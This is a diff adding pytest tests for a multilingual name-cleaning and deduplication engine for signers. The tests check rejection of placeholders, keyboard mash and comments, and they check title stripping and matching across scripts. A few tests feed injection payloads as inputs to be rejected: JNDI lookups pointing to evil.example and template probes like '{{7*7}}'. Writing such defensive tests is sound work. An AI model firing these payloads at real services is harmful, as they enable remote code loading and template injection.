@@ -1,0 +1,226 @@
+"""The names engine on names and junk from many languages and scripts: table-driven rules."""
+
+from __future__ import annotations
+
+import pytest
+
+from sync.dedupe.matching import Candidate, MatchIndex, cross_keys
+from sync.names import affiliation_key, make_watchlist, read_name
+from sync.names.cleaning import name_keys
+
+NO_WATCH = make_watchlist(())
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "Kiitos",  # Finnish "thanks"
+        "Tack för att ni gör detta",  # Swedish
+        "Cảm ơn các bạn rất nhiều",  # Vietnamese
+        "ありがとうございます",  # Japanese, no spaces
+        "감사합니다",  # Korean
+        "支持你们的工作",  # Chinese, no spaces
+        "תודה רבה",  # Hebrew
+        "Ευχαριστώ πολύ",  # Greek
+        "Terima kasih",  # Indonesian
+    ],
+)
+def test_comments_in_any_wordfreq_language_are_rejected(typed: str) -> None:
+    assert read_name(typed, watchlist=NO_WATCH).decision == "reject", typed
+
+
+@pytest.mark.parametrize(
+    "typed",
+    ["Anonym", "Nimetön", "Névtelen", "Аноним", "ناشناس", "匿名", "익명", "Ẩn danh", "ไม่ระบุชื่อ", "Anònim"],
+)
+def test_anonymous_in_many_languages_is_rejected(typed: str) -> None:
+    reading = read_name(typed, watchlist=NO_WATCH)
+    assert reading.decision == "reject", typed
+    assert reading.reject == "placeholder or comment, not a name"
+
+
+@pytest.mark.parametrize(
+    "typed", ["Vasya Pupkin", "Gipsz Jakab", "张三", "홍길동", "Matti Meikäläinen", "ישראל ישראלי"]
+)
+def test_local_placeholder_names_are_rejected(typed: str) -> None:
+    assert read_name(typed, watchlist=NO_WATCH).decision == "reject", typed
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "Nguyễn Thị Mai",  # every syllable is also a Vietnamese word
+        "Nagy Katalin",  # "nagy" is Hungarian for "big"
+        "प्रिया शर्मा",
+        "王晓明",
+        "佐藤健一",
+        "김지영",
+        "מרים כהן",
+        "مریم احمدی",
+        "Γιώργος Παπαδόπουλος",
+        "Олександр Шевченко",
+        "Aino Virtanen",
+    ],
+)
+def test_real_names_in_their_own_scripts_are_published(typed: str) -> None:
+    reading = read_name(typed, watchlist=NO_WATCH)
+    assert reading.decision == "publish", (typed, reading.hold, reading.reject)
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "йцукенгшщз",
+        "фывапролдж",
+        "ασδφγηξκλ",
+        "שדגכעיחלך",
+        "شسیبلاتنمک",
+        "ฟหกดเ้่าสว",
+        "ㅁㄴㅇㄹㅎ",
+        "ㄅㄆㄇㄈㄉ",
+    ],
+)
+def test_keyboard_mash_on_other_layouts_is_rejected(typed: str) -> None:
+    reading = read_name(typed, watchlist=NO_WATCH)
+    assert reading.reject.startswith("keyboard mash"), (typed, reading.reject)
+
+
+@pytest.mark.parametrize(
+    "typed", ["${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "${7*7} Smith"]
+)
+def test_template_and_lookup_injection_is_rejected(typed: str) -> None:
+    assert read_name(typed, watchlist=NO_WATCH).decision == "reject", typed
+
+
+def test_one_word_in_a_script_without_a_word_list_is_held() -> None:
+    reading = read_name("ขอบคุณครับ", watchlist=NO_WATCH)
+    assert reading.decision == "hold"
+    assert "no word list" in reading.hold[0]
+    assert read_name("สมศรี วงศ์สวัสดิ์", watchlist=NO_WATCH).decision == "publish"
+
+
+@pytest.mark.parametrize(
+    ("typed", "name"),
+    [
+        ("Johan Öberg, lycka till med uppropet!", "Johan Öberg"),
+        ("Lena Fischer – viel Erfolg!", "Lena Fischer"),
+        ("Emma Scott - thank you for doing this", "Emma Scott"),
+        ("Claire Dubois, merci pour cette lettre", "Claire Dubois"),
+    ],
+)
+def test_a_greeting_after_the_name_is_dropped_and_the_signer_published(typed: str, name: str) -> None:
+    reading = read_name(typed, watchlist=NO_WATCH)
+    assert (reading.display, reading.decision, reading.raw) == (name, "publish", typed)
+    assert any(f.startswith("comment after the name dropped") for f in reading.flags)
+
+
+@pytest.mark.parametrize(
+    ("affiliation", "why"),
+    [
+        ("I agree!!! good luck", "a comment, not an affiliation"),
+        ("qwertyuiop", "keyboard mash"),
+        ("<b>www</b>", "markup or template code"),
+        ("${jndi:ldap://x.example/a}", "markup or template code"),
+        ("fuck this", "profanity"),
+    ],
+)
+def test_a_bad_affiliation_is_dropped_with_a_flag_and_the_name_published(affiliation: str, why: str) -> None:
+    reading = read_name("Sarah Collins", affiliation, watchlist=NO_WATCH)
+    assert (reading.display, reading.affiliation, reading.decision) == ("Sarah Collins", "", "publish")
+    assert f"affiliation dropped: {why}" in reading.flags
+
+
+@pytest.mark.parametrize(
+    ("a", "b"),
+    [
+        ("Digitalcourage e.V.", "Digitalcourage"),
+        ("Kancelaria Nowak sp. z o.o.", "Kancelaria Nowak"),
+        ("Association Framasoft", "Framasoft"),
+        ("Stichting Bits of Freedom", "Bits of Freedom"),
+        ("Ligue des droits humains asbl", "Ligue des droits humains"),
+        ("Associazione Antigone Onlus", "Antigone"),
+        ("National Union of Teachers (NUT)", "The National Union of Teachers"),
+        ("Eesti Inimõiguste Keskus MTÜ", "Eesti Inimõiguste Keskus"),
+    ],
+)
+def test_an_organization_has_one_key_across_legal_forms_and_leading_words(a: str, b: str) -> None:
+    assert name_keys(a, "organization")[0] == name_keys(b, "organization")[0]
+
+
+def _candidate(id: str, name: str, email: str, kind: str = "") -> Candidate:
+    reading = read_name(name, "", "Organization" if kind == "organization" else "", NO_WATCH)
+    return Candidate.of_reading(id, reading, (email,), (email.split("@")[0],))
+
+
+def test_an_acronym_meets_its_expansion_and_is_held_for_the_editor() -> None:
+    index = MatchIndex([_candidate("1", "Társaság a Szabadságjogokért (TASZ)", "tasz@tasz", "organization")])
+    [match] = index.match(_candidate("2", "TASZ", "info@tasz", "organization"))
+    assert (match.id, match.merge, match.hold) == ("1", False, True)
+
+
+@pytest.mark.parametrize(
+    ("latin", "other"),
+    [
+        ("David Grossman Levi", "דוד גרוסמן לוי"),
+        ("Zhou Xiaoling", "周晓玲"),
+        ("Dimitris Georgiou", "Δημήτρης Γεωργίου"),
+    ],
+)
+def test_the_same_name_in_another_script_is_held_never_merged(latin: str, other: str) -> None:
+    index = MatchIndex([_candidate("1", latin, "a@x")])
+    matches = index.match(_candidate("2", other, "b@y"))
+    assert [(m.id, m.merge, m.hold) for m in matches] == [("1", False, True)], matches
+    assert cross_keys(*name_keys(latin)) and cross_keys(*name_keys(other))
+
+
+def test_two_clearly_different_people_at_one_address_are_both_published_with_a_note() -> None:
+    index = MatchIndex([_candidate("1", "Laura Bennett", "bennetts@home")])
+    [match] = index.match(_candidate("2", "Daniel Bennett", "bennetts@home"))
+    assert (match.merge, match.hold) == (False, False)
+    assert "clearly different name" in match.reason
+    [same] = index.match(_candidate("3", "L. Bennett", "bennetts@home"))
+    assert same.merge  # an initial can be the same person: merged as before
+
+
+def test_affiliation_key_still_ignores_case_and_the() -> None:
+    assert affiliation_key("The University of Bath") == affiliation_key("UNIVERSITY OF BATH")
+
+
+@pytest.mark.parametrize(
+    ("typed", "display"),
+    [
+        ("prof. dr hab. Anna Wiśniewska", "Anna Wiśniewska"),
+        ("mgr Tomasz Zieliński", "Tomasz Zieliński"),
+        ("Univ.-Prof. Mag. Dr. Barbara Huber", "Barbara Huber"),
+        ("Akademik Stefan Dimitrov", "Stefan Dimitrov"),
+        ("Fr. Jean-Baptiste Martin", "Jean-Baptiste Martin"),
+        ("د. علی رضایی", "علی رضایی"),
+        ("이민호 박사", "이민호"),
+        ("李明 教授", "李明"),
+        ("Dr. Amina Haddad", "Dr. Amina Haddad"),  # a plain Dr. stays as typed
+        ("Prof. Dr. Hans-Peter Müller", "Prof. Dr. Hans-Peter Müller"),
+    ],
+)
+def test_local_academic_and_religious_titles_are_left_out_of_the_display(typed: str, display: str) -> None:
+    reading = read_name(typed, watchlist=NO_WATCH)
+    assert (reading.display, reading.decision, reading.raw) == (display, "publish", typed)
+
+
+@pytest.mark.parametrize(
+    ("typed", "name", "affiliation"),
+    [
+        ("鈴木一郎 東京大学", "鈴木一郎", "東京大学"),
+        ("刘洋（北京大学）", "刘洋", "北京大学"),
+        ("박서준 서울대학교", "박서준", "서울대학교"),
+    ],
+)
+def test_a_cjk_name_with_its_institution_glued_on_is_split(typed: str, name: str, affiliation: str) -> None:
+    reading = read_name(typed, watchlist=NO_WATCH)
+    assert (reading.display, reading.affiliation, reading.decision) == (name, affiliation, "publish")
+
+
+def test_the_catalan_conjunction_between_surnames_is_lowercase() -> None:
+    assert (
+        read_name("MONTSERRAT VILA I ANTEQUERA", watchlist=NO_WATCH).display == "Montserrat Vila i Antequera"
+    )
+    assert read_name("JOHN I SMITH", watchlist=NO_WATCH).display == "John I Smith"
